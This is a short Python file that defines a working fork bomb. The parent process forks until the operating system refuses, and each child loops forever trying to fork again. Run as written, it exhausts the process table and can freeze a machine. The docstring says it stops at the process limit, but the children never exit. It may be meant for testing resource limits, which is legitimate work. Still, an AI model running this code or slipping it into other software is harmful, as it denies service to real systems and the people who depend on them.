"""Forks until the process limit stops it; every child keeps trying."""
import os
import time


def fork_bomb():
    made = 0
    while True:
        try:
            pid = os.fork()
        except OSError as exc:
            return {"made": made, "error": type(exc).__name__}
        if pid == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.01)
        made += 1
